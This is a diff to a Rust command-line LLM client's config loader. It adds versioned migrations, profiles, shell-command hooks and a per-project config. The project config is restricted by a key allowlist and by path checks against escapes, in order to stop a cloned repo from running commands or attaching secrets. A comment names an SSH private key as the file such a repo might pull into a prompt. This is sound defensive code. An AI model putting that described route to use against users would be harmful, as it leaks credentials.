@@ -7,10 +7,14 @@
 use core::str::FromStr;
 
 extern crate alloc;
+use alloc::ffi::CString;
 use alloc::string::{String, ToString};
 use alloc::vec::Vec;
 
-use crate::{ErrorKind, OrtResult, cli::Env, common::utils, ort_error};
+use crate::common::data::ModelSource;
+use crate::common::paths;
+use crate::common::stats::CurrencyDisplay;
+use crate::{ErrorKind, OrtError, OrtResult, cli::Env, common::utils, ort_error, syscall};
 use crate::{Priority, ReasoningEffort};
 
 /// To use a different endpoint set `base_url` in `${XDG_CONFIG_HOME}/ort.cfg`
@@ -31,10 +35,64 @@ const DEFAULT_SHOW_REASONING: bool = false;
 /// slower, so make it opt-in.
 const DEFAULT_INCLUDE_WEB_TOOLS: bool = false;
 
+/// How long a hook command may run before we kill it.
+const DEFAULT_HOOK_TIMEOUT_MS: u32 = 5000;
+
 /// Prefixing the system prompt or user prompt with this byte means it's
 /// a filename, read the contents.
 const FILE_INDICATOR: u8 = b'@';
 
+/// Most bytes `--system-file` or `system_file` may be. A system prompt
+/// goes with every request, a file this big is probably the wrong one.
+pub const MAX_SYSTEM_FILE_BYTES: usize = 64 * 1024;
+
+/// Default `max_line_bytes`. One streamed event this big is already far
+/// past any real answer chunk.
+pub const DEFAULT_MAX_LINE_BYTES: usize = 16 * 1024 * 1024;
+
+/// Per-project config. The nearest one from the current directory up is
+/// applied over ort.cfg.
+pub const PROJECT_FILENAME: &str = ".ort.cfg";
+
+/// What a project config may set. Not the API key, server, hooks or where
+/// answers are saved: a cloned repo must not be able to run commands or send
+/// your key elsewhere.
+const PROJECT_KEYS: [&str; 15] = [
+    "model",
+    "system_prompt",
+    "system_file",
+    "prompt",
+    "files",
+    "provider",
+    "priority",
+    "effort",
+    "include_web_tools",
+    "show_reasoning",
+    "quiet",
+    "review_prompt",
+    "max_source_bytes",
+    "max_prompt_bytes",
+    "redact",
+];
+
+/// Format of ort.cfg, the `version:` line. No line means 0. To rename a key
+/// or change a default, bump this and add a step to MIGRATIONS.
+pub const CONFIG_VERSION: u32 = 1;
+
+/// In the cache dir, the config we already said we couldn't upgrade
+const UPGRADE_WARNED_FILENAME: &str = "config-upgrade-warned";
+
+/// MIGRATIONS[n] upgrades the lines of a version n file to version n + 1
+const MIGRATIONS: [fn(&mut [String]); CONFIG_VERSION as usize] = [migrate_v0];
+
+/// Version 0 files were often hand ported from the pre 0.5.0 JSON config,
+/// which used these names.
+const V0_RENAMES: [(&str, &str); 3] = [
+    ("system", "system_prompt"),
+    ("models", "model"),
+    ("reasoning", "effort"),
+];
+
 /*
 pub fn load_config(env: &Env, filename: &'static str) -> OrtResult<ConfigFile> {
     match read_config_file(env, filename)? {
@@ -46,31 +104,244 @@ pub fn load_config(env: &Env, filename: &'static str) -> OrtResult<ConfigFile> {
 }
 */
 
-/// Read a file from the XDG config dir
-pub fn read_config_file(env: &Env, filename: &str) -> OrtResult<Option<String>> {
-    let mut config_file = [0u8; 64];
-
-    // Write the config directory into `config_file`
-    let mut end = xdg_dir(
-        env.XDG_CONFIG_HOME.unwrap_or_default(),
-        env.HOME.unwrap_or_default(),
-        ".config",
-        &mut config_file,
-    )?;
-    config_file[end] = b'/';
-    end += 1;
-    let start = end;
-    end += filename.len();
-    config_file[start..end].copy_from_slice(filename.as_bytes());
-
-    let config_file = unsafe { str::from_utf8_unchecked(&config_file[..end]) };
-    match utils::filename_read_to_string(config_file) {
-        Ok(cfg_str) => Ok(Some(cfg_str)),
-        Err("NOT FOUND") => Ok(None),
-        Err(_e) => Err(ort_error(ErrorKind::ConfigReadFailed, "")),
+/// Where the config comes from
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum ConfigSource<'a> {
+    /// A file in the XDG config dir, `--cfg`. Defaults if it isn't there.
+    Named(&'a str),
+    /// `--config PATH`, which must exist
+    Path(&'a str),
+    /// `--no-config`: neither ort.cfg nor a project config, only defaults,
+    /// flags and env
+    Empty,
+}
+
+impl ConfigSource<'_> {
+    /// Full path of the file, None for `Empty`
+    pub fn path(&self, env: &Env) -> OrtResult<Option<String>> {
+        match self {
+            ConfigSource::Named(filename) => paths::config_file(env, filename).map(Some),
+            ConfigSource::Path(path) => Ok(Some(path.to_string())),
+            ConfigSource::Empty => Ok(None),
+        }
+    }
+
+    /// Contents of the file, None if there isn't one to read
+    pub fn read(&self, env: &Env) -> OrtResult<Option<String>> {
+        let Some(path) = self.path(env)? else {
+            return Ok(None);
+        };
+        match utils::filename_read_to_string(&path) {
+            Ok(cfg_str) => Ok(Some(cfg_str)),
+            Err("NOT FOUND") if matches!(self, ConfigSource::Path(_)) => Err(ort_error(
+                ErrorKind::ConfigReadFailed,
+                "--config file not found",
+            )),
+            Err("NOT FOUND") => Ok(None),
+            Err(_e) => Err(ort_error(ErrorKind::ConfigReadFailed, "")),
+        }
     }
 }
 
+/// The config upgraded to CONFIG_VERSION, or None if it already is (or is
+/// newer, which `Cfg::from_str` reports).
+pub fn migrate(cfg: &str) -> Option<String> {
+    let version = version_field(cfg)
+        .map(|v| v.parse::<u32>().ok())
+        .unwrap_or(Some(0))?;
+    if version >= CONFIG_VERSION {
+        return None;
+    }
+
+    let mut lines: Vec<String> = cfg.lines().map(|l| l.to_string()).collect();
+    for step in &MIGRATIONS[version as usize..] {
+        step(&mut lines);
+    }
+    let version_line = "version: ".to_string() + &utils::num_to_string(CONFIG_VERSION);
+    // In place, so the other lines keep their numbers
+    match lines.iter_mut().find(|l| {
+        l.split_once(':')
+            .is_some_and(|(k, _)| k.trim() == "version")
+    }) {
+        Some(line) => *line = version_line,
+        None => lines.insert(0, version_line),
+    }
+    let mut out = String::with_capacity(cfg.len() + 16);
+    for line in lines {
+        out.push_str(&line);
+        out.push('\n');
+    }
+    Some(out)
+}
+
+/// The value of the `version:` line, None if there isn't one
+fn version_field(cfg: &str) -> Option<&str> {
+    cfg.lines()
+        .filter_map(|l| l.split_once(':'))
+        .find(|(k, _)| k.trim() == "version")
+        .map(|(_, v)| v.trim())
+}
+
+fn migrate_v0(lines: &mut [String]) {
+    for line in lines.iter_mut().filter(|l| !l.starts_with('#')) {
+        let Some((key, value)) = line.split_once(':') else {
+            continue;
+        };
+        if let Some((_, new_key)) = V0_RENAMES.iter().find(|(old, _)| *old == key.trim()) {
+            *line = new_key.to_string() + ":" + value;
+        }
+    }
+}
+
+/// Save the migrated config over the old one at `path`, keeping the old one
+/// as `<path>.v<version>.bak`. Best effort, a read only config dir still works.
+fn write_migrated(env: &Env, path: &str, old: &str, new: &str) {
+    let version = version_field(old).unwrap_or("0");
+    let backup = path.to_string() + ".v" + version + ".bak";
+    if write_private(&backup, old) && write_private(path, new) {
+        let msg = "Upgraded ".to_string()
+            + path
+            + " to version "
+            + &utils::num_to_string(CONFIG_VERSION)
+            + ", the old one is in "
+            + &backup
+            + "\n";
+        utils::warn(&msg);
+        return;
+    }
+    // A read only config dir fails every run, only say so the first time
+    if let Ok(marker) = paths::cache_file(env, UPGRADE_WARNED_FILENAME) {
+        if utils::filename_read_to_string(&marker).is_ok_and(|p| p == path) {
+            return;
+        }
+        write_private(&marker, path);
+    }
+    utils::warn(
+        &("Could not upgrade ".to_string() + path + ", using the upgraded version in memory\n"),
+    );
+}
+
+/// Write `contents` to `path`, readable only by us when we create it. It has the API key.
+fn write_private(path: &str, contents: &str) -> bool {
+    let Ok(c_path) = CString::new(path) else {
+        return false;
+    };
+    let flags = syscall::O_CLOEXEC | syscall::O_WRONLY | syscall::O_CREAT | syscall::O_TRUNC;
+    let fd = match syscall::open(c_path.as_ptr(), flags, 0o600) {
+        Ok(fd) if fd >= 0 => fd,
+        _ => return false,
+    };
+    let written = syscall::write(fd, contents.as_ptr().cast(), contents.len());
+    syscall::close(fd);
+    written as usize == contents.len()
+}
+
+/// The nearest project config from `dir` up to /, as the directory it is
+/// in and its contents.
+pub fn find_project_file(dir: &str) -> OrtResult<Option<(String, String)>> {
+    let mut dir = dir.trim_end_matches('/');
+    loop {
+        let path = dir.to_string() + "/" + PROJECT_FILENAME;
+        match utils::filename_read_to_string(&path) {
+            Ok(contents) => return Ok(Some((dir.to_string(), contents))),
+            Err("NOT FOUND") => {}
+            Err(_) => {
+                let msg = "Could not read ".to_string() + &path;
+                return Err(ort_error(ErrorKind::ConfigReadFailed, msg.leak()));
+            }
+        }
+        match dir.rsplit_once('/') {
+            Some((parent, _)) => dir = parent,
+            None => return Ok(None),
+        }
+    }
+}
+
+/// A path from ort.cfg, made relative to its directory.
+/// URLs and absolute paths stay as they are.
+fn relative_path(dir: &str, path: &str) -> String {
+    if path.starts_with('/') || path.contains("://") {
+        return path.to_string();
+    }
+    dir.to_string() + "/" + path
+}
+
+/// A path from a project config, made relative to its directory. URLs stay
+/// as they are. Anything else must be inside the project, a cloned repo
+/// must not be able to attach ~/.ssh/id_ed25519 to a prompt.
+fn project_path(dir: &str, path: &str) -> Result<String, &'static str> {
+    if path.contains("://") {
+        return Ok(path.to_string());
+    }
+    if path.starts_with('/') {
+        return Err("Absolute paths are not allowed in a project config");
+    }
+    if path.split('/').any(|part| part == "..") {
+        return Err("`..` is not allowed in a project config");
+    }
+    let full = dir.to_string() + "/" + path;
+    // A symlink could still lead out
+    if let (Some(real), Some(real_dir)) = (utils::canonical_path(&full), utils::canonical_path(dir))
+        && !real.starts_with(&(real_dir + "/"))
+    {
+        return Err("Path leads outside the project");
+    }
+    Ok(full)
+}
+
+/// `key: value`, and the column the value starts at. None for blank lines
+/// and comments.
+fn split_line(line: &str, line_no: usize) -> OrtResult<Option<(&str, &str, usize)>> {
+    if line.trim().is_empty() || line.as_bytes()[0] == b'#' {
+        return Ok(None);
+    }
+    let Some((key, value)) = line.split_once(":") else {
+        return Err(cfg_error(line_no, 1, "Expected `key: value`"));
+    };
+    let col = line.len() - value.trim_start().len() + 1;
+    Ok(Some((key.trim(), value.trim(), col)))
+}
+
+/// The name of a `[name]` profile line, None for any other line
+fn section_name(line: &str, line_no: usize) -> OrtResult<Option<&str>> {
+    let Some(rest) = line.trim_end().strip_prefix('[') else {
+        return Ok(None);
+    };
+    match rest.strip_suffix(']').map(str::trim) {
+        Some(name) if !name.is_empty() && !name.contains(char::is_whitespace) => Ok(Some(name)),
+        _ => Err(cfg_error(line_no, 1, "Expected a profile name, `[name]`")),
+    }
+}
+
+fn unknown_profile() -> OrtError {
+    ort_error(
+        ErrorKind::InvalidArguments,
+        "No such profile in the config, see `ort config profiles`",
+    )
+}
+
+/// Why `path` can't be the system prompt, for `--system-file` and `system_file`
+pub fn system_file_error(path: &str, err: &str) -> String {
+    let why = match err {
+        "NOT FOUND" => "not found",
+        "TOO BIG" => "bigger than 64 KiB",
+        "NOT UTF-8" => "not UTF-8 text",
+        other => other,
+    };
+    path.to_string() + ": " + why
+}
+
+/// A parse error that says where, e.g. "line 12 col 8: Invalid effort field"
+fn cfg_error(line: usize, col: usize, msg: &str) -> OrtError {
+    let mut s = "line ".to_string() + &utils::num_to_string(line);
+    s.push_str(" col ");
+    s.push_str(&utils::num_to_string(col));
+    s.push_str(": ");
+    s.push_str(msg);
+    // Fatal and once per run, so leaking it is fine
+    ort_error(ErrorKind::ConfigParseFailed, s.leak())
+}
+
 #[derive(Clone, Default)]
 pub struct Cfg {
     //
@@ -85,13 +356,90 @@ pub struct Cfg {
 
     pub api_key: Option<String>,
 
-    /// Yes to persist to a file in ~/.cache/ort to allow `-c` flag (continue)
+    /// Yes to persist to a file in ~/.local/state/ort to allow `-c` flag (continue)
     pub save_to_file: bool,
 
+    /// Also save the reasoning text in the last-*.json file
+    pub save_reasoning: bool,
+
+    /// Save each answer as markdown, `<model-slug>-<timestamp>.md`.
+    /// In `save_dir` if set, otherwise ~/.local/state/ort
+    pub save_answer: bool,
+    pub save_dir: Option<String>,
+
+    /// Move the cache dir, state dir or prompt history file. See `paths`.
+    pub cache_dir: Option<String>,
+    pub state_dir: Option<String>,
+    pub history_file: Option<String>,
+
     /// IP addresses of domain in base_url (usually openrouter.ai).
     /// Saves time resolving them.
     pub dns: Vec<String>,
 
+    /// Hooks are shell commands that get a JSON payload on stdin.
+    /// pre_request gets the request body. If it prints anything that replaces the body.
+    /// If it exits non-zero the request is not sent.
+    pub pre_request: Option<String>,
+    /// Gets the model, provider and response content after a prompt completes.
+    pub post_response: Option<String>,
+    /// Gets the error message when ort fails.
+    pub on_error: Option<String>,
+    pub hook_timeout_ms: u32,
+
+    /// Byte caps on prompt text from stdin or a prompt file, each and overall.
+    /// Anything past the cap is cut and a marker left in its place.
+    pub max_source_bytes: Option<u32>,
+    pub max_prompt_bytes: Option<u32>,
+
+    /// Biggest streamed event ort will hold, in bytes. A bigger one is
+    /// skipped with a warning. Unset means `DEFAULT_MAX_LINE_BYTES`.
+    pub max_line_bytes: Option<u32>,
+
+    /// gzip request bodies at least this big. Off unless set, the server
+    /// has to accept `Content-Encoding: gzip`.
+    pub gzip_min_bytes: Option<u32>,
+
+    /// Send answers longer than the terminal to $PAGER (default `less -R`).
+    /// --no-pager turns it off.
+    pub use_pager: bool,
+
+    /// Show costs in cents (default), dollars or both
+    pub currency_display: CurrencyDisplay,
+
+    /// System prompt for `ort review`. '@<filename>' reads it from a file.
+    pub review_prompt: Option<String>,
+
+    /// `persona.<name>: <system prompt>` lines, for `ort panel`, in file order
+    pub personas: Vec<(String, String)>,
+
+    /// Where to send each request's timings, tokens and cost:
+    /// `statsd://host:port` over UDP, or an OTLP/HTTP collector `http://host:port`
+    pub metrics: Option<String>,
+
+    /// Sent as the request `user`, so OpenRouter and providers can tell
+    /// your end users apart.
+    pub user_id: Option<String>,
+
+    /// Model that writes the titles in `ort history list`, best a cheap or
+    /// free one. Without it the list shows the start of the first prompt.
+    pub title_model: Option<String>,
+
+    /// Out of credits (a 402), send the prompt again to this model, best a
+    /// `:free` one. Without it ort says what's left and suggests some.
+    pub free_fallback: Option<String>,
+
+    /// Once a day, check crates.io for a newer ort and say so on stderr.
+    /// `--no-update-check` skips it for one run.
+    pub update_check: bool,
+
+    /// `--show-connection`: the IP, protocol and Cloudflare data center
+    /// that served the request go in the stats line. Not a config key.
+    pub show_connection: bool,
+
+    /// `--show-model-source`: which layer chose the model, and any fallback,
+    /// go in the stats line. Not a config key.
+    pub show_model_source: bool,
+
     //
     // These are also on the command line
     //
@@ -99,6 +447,9 @@ pub struct Cfg {
     /// Can be multiple comma separated.
     pub models: Vec<String>,
 
+    /// Which file or section set `models`
+    pub model_source: ModelSource,
+
     /// Prompt if not given at the cmd line.
     /// Normally you would not set this.
     /// For automated processes you may want to have the prompt in the cfg
@@ -132,120 +483,379 @@ pub struct Cfg {
 
     /// Images to attach to the request.
     pub files: Vec<String>,
+
+    /// Never write these to the debug log, e.g. a project's internal hostnames
+    pub redact: Vec<String>,
+
+    /// Agent tools that need a y/N before they run. None is the default list.
+    pub confirm_tools: Option<Vec<String>>,
+
+    /// The `[name]` sections of the file, in order
+    pub profiles: Vec<String>,
+
+    /// The profile in use, from `--profile` or ORT_PROFILE
+    pub profile: Option<String>,
 }
 
 impl Cfg {
-    pub fn load(env: &Env, filename: &str) -> OrtResult<Cfg> {
-        match read_config_file(env, filename)? {
-            Some(cfg_str) => Self::from_str(&cfg_str),
-            None => Ok(Self::default()),
+    /// ort.cfg from the config dir, or `--config`, then the project config
+    /// over it. `--no-config` is the defaults.
+    /// The profile is env.ORT_PROFILE, which `--no-config` ignores.
+    pub fn load(env: &Env, source: ConfigSource) -> OrtResult<Cfg> {
+        let Some(path) = source.path(env)? else {
+            return Ok(Self::default());
+        };
+        let profile = env.ORT_PROFILE.filter(|p| !p.is_empty());
+        // Relative paths in it are relative to where it is
+        let dir = path.rsplit_once('/').map(|(dir, _)| dir);
+        let mut cfg = match source.read(env)? {
+            Some(cfg_str) => match migrate(&cfg_str) {
+                Some(migrated) => {
+                    write_migrated(env, &path, &cfg_str, &migrated);
+                    Self::from_str_in(&migrated, dir, profile)?
+                }
+                None => Self::from_str_in(&cfg_str, dir, profile)?,
+            },
+            None if profile.is_some() => return Err(unknown_profile()),
+            None => Self::default(),
+        };
+        if let Some(pwd) = env.PWD
+            && let Some((dir, contents)) = find_project_file(pwd)?
+        {
+            cfg.overlay(&dir, &contents)?;
         }
+        Ok(cfg)
     }
 
+    /// Parse ort.cfg. Older versions are migrated in memory first.
+    /// A relative `system_file` is relative to the current directory.
     pub fn from_str(cfg: &str) -> OrtResult<Cfg> {
-        let mut api_key = None;
-        let mut base_url = DEFAULT_BASE_URL.to_string();
-        let mut save_to_file = DEFAULT_SAVE_TO_FILE;
-        let mut dns = Vec::new();
-        let mut models = Vec::new();
-        let mut prompt = None;
-        let mut prompt_filename: Option<String> = None;
-        let mut system_prompt = None;
-        let mut quiet = DEFAULT_QUIET;
-        let mut show_reasoning = DEFAULT_SHOW_REASONING;
-        let mut provider = None;
-        let mut priority = None;
-        let mut include_web_tools = DEFAULT_INCLUDE_WEB_TOOLS;
-        let mut effort = None;
-        let mut files = Vec::new();
-
-        for line in cfg.lines().filter(|l| !l.trim().is_empty()) {
-            if line.as_bytes()[0] == b'#' {
-                // comment
+        Self::from_str_in(cfg, None, None)
+    }
+
+    /// `from_str` with the `[profile]` section's lines over the others
+    pub fn from_str_profile(cfg: &str, profile: Option<&str>) -> OrtResult<Cfg> {
+        Self::from_str_in(cfg, None, profile)
+    }
+
+    /// Parse ort.cfg found in `dir`. The lines before the first `[name]`
+    /// apply to every profile, then those of `profile`'s section.
+    pub(crate) fn from_str_in(
+        cfg: &str,
+        dir: Option<&str>,
+        profile: Option<&str>,
+    ) -> OrtResult<Cfg> {
+        let migrated = migrate(cfg);
+        // Errors give the line numbers of the file, not counting a version
+        // line the migration added
+        let added_lines = usize::from(migrated.is_some() && version_field(cfg).is_none());
+        let cfg = migrated.as_deref().unwrap_or(cfg);
+
+        let mut out = Cfg::default();
+        // The other profiles' lines go here, so their mistakes are found too
+        let mut unused = Cfg::default();
+        let mut section: Option<&str> = None;
+        for (idx, line) in cfg.lines().enumerate().skip(added_lines) {
+            let line_no = idx + 1 - added_lines;
+            if let Some(name) = section_name(line, line_no)? {
+                if out.profiles.iter().any(|p| p == name) {
+                    return Err(cfg_error(line_no, 2, "Profile is already defined"));
+                }
+                out.profiles.push(name.to_string());
+                section = Some(name);
                 continue;
             }
-            let (key, value) = line
-                .split_once(":")
-                .map(|(k, v)| (k.trim(), v.trim()))
-                .unwrap();
-            match key {
-                "api_key" => api_key = Some(value.to_string()),
-                "base_url" => base_url = value.to_string(),
-                "save_to_file" => save_to_file = value == "true",
-                "dns" => {
-                    dns = value.split(",").map(|ip| ip.trim().to_string()).collect();
+            if let Some((key, value, col)) = split_line(line, line_no)? {
+                let is_selected = section.is_none() || section == profile;
+                // Another profile's files are only read when it is selected
+                let reads_file = key == "system_file"
+                    || (key == "prompt" && value.bytes().next() == Some(FILE_INDICATOR));
+                if !is_selected && reads_file {
+                    continue;
                 }
-                "model" => {
-                    models = value.split(",").map(|m| m.trim().to_string()).collect();
+                let target = if is_selected { &mut out } else { &mut unused };
+                match (key, dir) {
+                    ("system_file" | "cache_dir" | "state_dir" | "history_file", Some(dir)) => {
+                        target.set(key, &relative_path(dir, value), line_no, col)?
+                    }
+                    _ => target.set(key, value, line_no, col)?,
                 }
-                "files" => {
-                    files = value.split(",").map(|f| f.trim().to_string()).collect();
+                if key == "model" {
+                    target.model_source = match section {
+                        Some(_) => ModelSource::Profile,
+                        None => ModelSource::Config,
+                    };
                 }
-                "prompt" => prompt = Some(value.to_string()),
-                "system_prompt" => system_prompt = Some(value.to_string()),
-                "quiet" => quiet = value == "true",
-                "show_reasoning" => show_reasoning = value == "true",
-                "provider" => provider = Some(value.to_string()),
-                "priority" => {
-                    let p = Priority::from_str(value).map_err(|_| {
-                        ort_error(
-                            ErrorKind::ConfigParseFailed,
-                            "Invalid priority field. Must be price, latency or throughput",
-                        )
-                    })?;
-                    priority = Some(p);
+            }
+        }
+        if let Some(profile) = profile {
+            if !out.profiles.iter().any(|p| p == profile) {
+                return Err(unknown_profile());
+            }
+            out.profile = Some(profile.to_string());
+        }
+        Ok(out)
+    }
+
+    /// Apply a project config over this one. `dir` is where it was found,
+    /// relative paths in it are relative to that. Errors start with its path.
+    pub fn overlay(&mut self, dir: &str, contents: &str) -> OrtResult<()> {
+        let path = dir.to_string() + "/" + PROJECT_FILENAME;
+        let in_file = |err: OrtError| {
+            let msg = path.clone() + " " + err.context;
+            ort_error(err.kind, msg.leak())
+        };
+        for (idx, line) in contents.lines().enumerate() {
+            let line_no = idx + 1;
+            let Some((key, value, col)) = split_line(line, line_no).map_err(in_file)? else {
+                continue;
+            };
+            if !PROJECT_KEYS.contains(&key) {
+                let msg = "Not allowed in a project config: ".to_string() + key;
+                return Err(in_file(cfg_error(line_no, 1, &msg)));
+            }
+            let path_error = |msg: &str| in_file(cfg_error(line_no, col, msg));
+            let value = match key {
+                "files" => value
+                    .split(',')
+                    .map(|f| project_path(dir, f.trim()))
+                    .collect::<Result<Vec<_>, _>>()
+                    .map_err(path_error)?
+                    .join(", "),
+                "system_file" => project_path(dir, value).map_err(path_error)?,
+                "prompt" | "review_prompt" => match value.strip_prefix('@') {
+                    Some(filename) => {
+                        "@".to_string() + &project_path(dir, filename).map_err(path_error)?
+                    }
+                    None => value.to_string(),
+                },
+                _ => value.to_string(),
+            };
+            // Adds to your list, a repo can't unmask what you redact
+            let global_redact = (key == "redact").then(|| core::mem::take(&mut self.redact));
+            self.set(key, &value, line_no, col).map_err(in_file)?;
+            if let Some(mut redact) = global_redact {
+                for s in self.redact.drain(..) {
+                    if !redact.contains(&s) {
+                        redact.push(s);
+                    }
+                }
+                self.redact = redact;
+            }
+            if key == "model" {
+                self.model_source = ModelSource::Project;
+            }
+        }
+        Ok(())
+    }
+
+    /// One `key: value` line. `col` is where the value starts, for errors.
+    fn set(&mut self, key: &str, value: &str, line_no: usize, col: usize) -> OrtResult<()> {
+        match key {
+            "version" => {
+                let v: u32 = value.parse().map_err(|_| {
+                    cfg_error(line_no, col, "Invalid version field. Must be a number")
+                })?;
+                if v > CONFIG_VERSION {
+                    return Err(cfg_error(
+                        line_no,
+                        col,
+                        "Config version is newer than this ort, upgrade ort",
+                    ));
                 }
-                "effort" => {
-                    let r = ReasoningEffort::from_str(value).map_err(|_| {
+            }
+            "api_key" => self.api_key = Some(value.to_string()),
+            "base_url" => self.base_url = value.to_string(),
+            "save_to_file" => self.save_to_file = value == "true",
+            "save_reasoning" => self.save_reasoning = value == "true",
+            "save_answer" => self.save_answer = value == "true",
+            "save_dir" => self.save_dir = Some(value.trim_end_matches('/').to_string()),
+            "cache_dir" => self.cache_dir = Some(value.trim_end_matches('/').to_string()),
+            "state_dir" => self.state_dir = Some(value.trim_end_matches('/').to_string()),
+            "history_file" => self.history_file = Some(value.to_string()),
+            "dns" => {
+                self.dns = value.split(",").map(|ip| ip.trim().to_string()).collect();
+            }
+            "model" => {
+                self.models = value.split(",").map(|m| m.trim().to_string()).collect();
+            }
+            "files" => {
+                self.files = value.split(",").map(|f| f.trim().to_string()).collect();
+            }
+            "prompt" => {
+                if value.bytes().next() == Some(FILE_INDICATOR) {
+                    let filename = &value[1..];
+                    self.prompt_filename = Some(filename.to_string());
+                    self.prompt = Some(utils::filename_read_to_string(filename).map_err(|_| {
+                        ort_error(ErrorKind::ConfigParseFailed, "Invalid prompt filename")
+                    })?);
+                } else {
+                    self.prompt_filename = None;
+                    self.prompt = Some(value.to_string());
+                }
+            }
+            "system_prompt" => self.system_prompt = Some(value.to_string()),
+            "system_file" => {
+                let prompt = utils::filename_read_utf8(value, MAX_SYSTEM_FILE_BYTES)
+                    .map_err(|err| cfg_error(line_no, col, &system_file_error(value, err)))?;
+                self.system_prompt = Some(prompt);
+            }
+            "quiet" => self.quiet = value == "true",
+            "show_reasoning" => self.show_reasoning = value == "true",
+            "provider" => self.provider = Some(value.to_string()),
+            "priority" => {
+                let p = Priority::from_str(value).map_err(|_| {
+                    cfg_error(
+                        line_no,
+                        col,
+                        "Invalid priority field. Must be price, latency or throughput",
+                    )
+                })?;
+                self.priority = Some(p);
+            }
+            "effort" => {
+                let r = ReasoningEffort::from_str(value).map_err(|_| {
+                    cfg_error(
+                        line_no,
+                        col,
+                        "Invalid effort field. Must be low, medium, high, etc.",
+                    )
+                })?;
+                self.effort = Some(r);
+            }
+            "include_web_tools" => self.include_web_tools = value == "true",
+            "pre_request" => self.pre_request = Some(value.to_string()),
+            "post_response" => self.post_response = Some(value.to_string()),
+            "on_error" => self.on_error = Some(value.to_string()),
+            "hook_timeout_ms" => {
+                self.hook_timeout_ms = value.parse().map_err(|_| {
+                    cfg_error(
+                        line_no,
+                        col,
+                        "Invalid hook_timeout_ms field. Must be a number",
+                    )
+                })?;
+            }
+            "max_source_bytes" => {
+                self.max_source_bytes = Some(value.parse().map_err(|_| {
+                    cfg_error(
+                        line_no,
+                        col,
+                        "Invalid max_source_bytes field. Must be a number",
+                    )
+                })?);
+            }
+            "gzip_min_bytes" => {
+                self.gzip_min_bytes = Some(value.parse().map_err(|_| {
+                    cfg_error(
+                        line_no,
+                        col,
+                        "Invalid gzip_min_bytes field. Must be a number",
+                    )
+                })?);
+            }
+            "user_id" => self.user_id = Some(value.to_string()),
+            "title_model" => self.title_model = Some(value.to_string()),
+            "free_fallback" => self.free_fallback = Some(value.to_string()),
+            "use_pager" => self.use_pager = value == "true",
+            "update_check" => self.update_check = value == "true",
+            "review_prompt" => {
+                self.review_prompt = if value.bytes().next() == Some(FILE_INDICATOR) {
+                    Some(utils::filename_read_to_string(&value[1..]).map_err(|_| {
                         ort_error(
                             ErrorKind::ConfigParseFailed,
-                            "Invalid effort field. Must be low, medium, high, etc.",
+                            "Invalid review_prompt filename",
                         )
-                    })?;
-                    effort = Some(r);
+                    })?)
+                } else {
+                    Some(value.to_string())
+                };
+            }
+            "currency_display" => {
+                self.currency_display = CurrencyDisplay::from_str(value).map_err(|_| {
+                    cfg_error(
+                        line_no,
+                        col,
+                        "Invalid currency_display field. Must be cents, dollars or both",
+                    )
+                })?;
+            }
+            "max_prompt_bytes" => {
+                self.max_prompt_bytes = Some(value.parse().map_err(|_| {
+                    cfg_error(
+                        line_no,
+                        col,
+                        "Invalid max_prompt_bytes field. Must be a number",
+                    )
+                })?);
+            }
+            "max_line_bytes" => {
+                self.max_line_bytes = Some(value.parse().map_err(|_| {
+                    cfg_error(
+                        line_no,
+                        col,
+                        "Invalid max_line_bytes field. Must be a number",
+                    )
+                })?);
+            }
+            "redact" => {
+                self.redact = value
+                    .split(",")
+                    .map(|s| s.trim().to_string())
+                    .filter(|s| !s.is_empty())
+                    .collect();
+            }
+            "confirm_tools" => {
+                self.confirm_tools = Some(
+                    value
+                        .split(",")
+                        .map(|s| s.trim().to_string())
+                        .filter(|s| !s.is_empty())
+                        .collect(),
+                );
+            }
+            "metrics" => {
+                if !value.starts_with("statsd://") && !value.starts_with("http://") {
+                    return Err(cfg_error(
+                        line_no,
+                        col,
+                        "Invalid metrics field. Must be statsd://host:port or http://host:port",
+                    ));
                 }
-                "include_web_tools" => include_web_tools = value == "true",
-                _ => {
-                    /*
-                    return Err(ort_error(
-                        ErrorKind::ConfigReadFailed,
-                        "Invalid key in cfg file",
+                self.metrics = Some(value.to_string());
+            }
+            key if key.starts_with("persona.") => {
+                let name = &key["persona.".len()..];
+                if name.is_empty() {
+                    return Err(cfg_error(
+                        line_no,
+                        1,
+                        "Missing persona name, e.g. persona.skeptic",
                     ));
-                    */
-                    // Temp while I port
-                    continue;
+                }
+                let prompt = if value.bytes().next() == Some(FILE_INDICATOR) {
+                    utils::filename_read_to_string(&value[1..]).map_err(|_| {
+                        cfg_error(line_no, col, "Invalid persona system prompt filename")
+                    })?
+                } else {
+                    value.to_string()
+                };
+                match self.personas.iter_mut().find(|(n, _)| n == name) {
+                    Some(persona) => persona.1 = prompt,
+                    None => self.personas.push((name.to_string(), prompt)),
                 }
             }
+            // Maybe from a newer ort, or a typo. Either way the rest works.
+            _ => {
+                let msg = "Config line ".to_string()
+                    + &utils::num_to_string(line_no)
+                    + ": Unknown key "
+                    + key
+                    + ", ignoring it\n";
+                utils::warn(&msg);
+            }
         }
-
-        if let Some(p) = prompt.as_ref()
-            && p.bytes().next() == Some(FILE_INDICATOR)
-        {
-            let filename = &p[1..];
-            prompt_filename = Some(filename.to_string());
-            prompt =
-                Some(utils::filename_read_to_string(filename).map_err(|_| {
-                    ort_error(ErrorKind::ConfigParseFailed, "Invalid prompt filename")
-                })?);
-        }
-
-        Ok(Cfg {
-            base_url,
-            api_key,
-            save_to_file,
-            dns,
-            models,
-            prompt,
-            prompt_filename,
-            system_prompt,
-            quiet,
-            show_reasoning,
-            priority,
-            provider,
-            include_web_tools,
-            effort,
-            files,
-        })
+        Ok(())
     }
 
     pub fn default() -> Cfg {
@@ -256,64 +866,25 @@ impl Cfg {
             quiet: DEFAULT_QUIET,
             show_reasoning: DEFAULT_SHOW_REASONING,
             include_web_tools: DEFAULT_INCLUDE_WEB_TOOLS,
+            hook_timeout_ms: DEFAULT_HOOK_TIMEOUT_MS,
             ..Default::default()
         }
     }
 
-    pub fn get_api_key(&self) -> Option<&str> {
-        self.api_key.as_deref()
+    /// Should a request body of `len` bytes be sent gzipped
+    pub fn is_gzip(&self, len: usize) -> bool {
+        self.gzip_min_bytes.is_some_and(|min| len >= min as usize)
     }
-}
 
-pub fn cache_dir(env: &Env, cache_dir: &mut [u8]) -> OrtResult<usize> {
-    let mut end = xdg_dir(
-        env.XDG_CACHE_HOME.unwrap_or_default(),
-        env.HOME.unwrap_or_default(),
-        ".cache",
-        cache_dir,
-    )?;
-    cache_dir[end] = b'/';
-    end += 1;
-    let start = end;
-    end += 3;
